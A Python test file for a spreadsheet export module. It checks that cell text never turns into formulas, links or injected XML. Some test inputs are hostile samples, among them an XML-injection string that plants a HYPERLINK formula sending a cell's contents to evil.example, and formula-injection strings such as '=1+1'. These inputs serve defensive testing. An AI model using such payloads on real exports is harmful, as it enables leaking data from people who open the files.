"""XLSX: exact numbers, texts that stay texts, and nothing that runs. Files are read as the XML that they are."""

import io
import os
import tempfile
import time
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from mcp_django.exports.questions import FileColumn
from mcp_django.exports.xlsx_files import MAX_TEXT, XLSXFile

pytestmark = pytest.mark.one_django

NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet(columns: Any, *rows: Any) -> ElementTree.Element:
    file = XLSXFile(columns)
    try:
        file.write(rows)
        with zipfile.ZipFile(io.BytesIO(file.finish().read())) as found:
            return ElementTree.fromstring(found.read("xl/worksheets/sheet1.xml"))
    finally:
        file.close()


def cells(*values: Any, is_number: bool = False) -> list[Any]:
    """Return the cells of one column: texts as texts, numbers as numbers, None for an empty one."""
    found: list[Any] = []
    root = sheet([FileColumn("x"), FileColumn("v", is_number=is_number)], *([1, value] for value in values))
    assert root.find(f".//{NAMESPACE}f") is None
    assert root.find(f".//{NAMESPACE}hyperlink") is None
    for row in [*root.iter(f"{NAMESPACE}row")][1:]:
        second = next((cell for cell in row if cell.get("r", "").startswith("B")), None)
        if second is None:
            found.append(None)
        elif second.get("t") == "inlineStr":
            found.append("".join(second.itertext()))
        else:
            found.append(float(second.findtext(f"{NAMESPACE}v") or "nan"))
    return found


def test_texts_never_become_formulas_urls_or_numbers() -> None:
    texts = ["{=1+1}", "https://evil.example/", "mailto:x@y.example", "00123", "internal:Sheet1!A1", "plain"]
    assert cells(*texts) == texts
    assert cells("=1+1", "@x") == ["'=1+1", "'@x"]


def test_numbers_are_numbers_as_far_as_they_are_exact() -> None:
    assert cells(5, -2.5, 123456789012345, None) == [5, -2.5, 123456789012345, None]
    assert cells(1234567890123456) == ["1234567890123456"]
    assert cells("12.50", "-0.10", "1234567890123.456", is_number=True) == [12.5, -0.1, "1234567890123.456"]
    assert cells("12.50") == ["12.50"]


def test_characters_that_xml_cannot_hold_are_left_out() -> None:
    assert cells("a\0b\x0bc\ufffed", "tab\there") == ["abcd", "tab\there"]
    # A spreadsheet would read it as an escaped character.
    assert cells("_x0041_") == ["_x005F_x0041_"]


@pytest.mark.parametrize(
    "text",
    [
        '<r></r></is></c><c r="C2"><f>HYPERLINK("https://evil.example/"&amp;A1)</f></c><c r="D2"><is><r></r>',
        "<r>bold</r>",
        "\0<r></r>",
        "<r><</r>",
    ],
)
def test_a_text_that_looks_like_the_inside_of_a_cell_is_a_text(text: str) -> None:
    # XlsxWriter takes it for its own XML.
    assert cells(text, "next") == [f"'{text}".replace("\0", ""), "next"]


def test_a_text_that_is_too_long_for_a_cell_is_cut() -> None:
    (cell,) = cells("x" * (MAX_TEXT + 1))
    assert len(cell) == MAX_TEXT
    assert cell.endswith("…")


def test_a_cell_is_measured_as_a_spreadsheet_does() -> None:
    # These have two units each: a spreadsheet calls a file with more of them damaged.
    (whole, cut, odd) = cells("\U0001f600" * (MAX_TEXT // 2), "\U0001f600" * MAX_TEXT, "a" + "\U0001f600" * MAX_TEXT)
    assert whole == "\U0001f600" * (MAX_TEXT // 2)
    for cell in (cut, odd):
        assert MAX_TEXT - 1 <= len(cell.encode("utf-16-le")) // 2 <= MAX_TEXT
        assert cell.endswith("\U0001f600…")


def test_what_a_killed_worker_has_left_is_deleted_after_a_day(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr(tempfile, "tempdir", os.fspath(tmp_path))
    killed = XLSXFile([FileColumn("x")])
    running = XLSXFile([FileColumn("x")])
    (tmp_path / "of others").mkdir()
    (tmp_path / "mcp_export_link").symlink_to(tmp_path / "of others")
    old = time.time() - 2 * 24 * 3600
    for path in (tmp_path / "of others", Path(killed.directory.name), *Path(killed.directory.name).iterdir()):
        os.utime(path, (old, old))
    # The folder itself is as old, but somebody still writes to it.
    os.utime(running.directory.name, (old, old))
    try:
        XLSXFile.clear_left(timedelta(days=1))
        assert not Path(killed.directory.name).exists()
        assert Path(running.directory.name).exists()
        assert (tmp_path / "of others").exists()
    finally:
        killed.close()
        running.close()


def test_nothing_is_left_of_a_file_that_was_not_finished(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr(tempfile, "tempdir", os.fspath(tmp_path))
    file = XLSXFile([FileColumn("x")])
    file.write([["a"]])
    assert [*tmp_path.iterdir()]
    file.close()
    del file
    assert [*tmp_path.iterdir()] == []
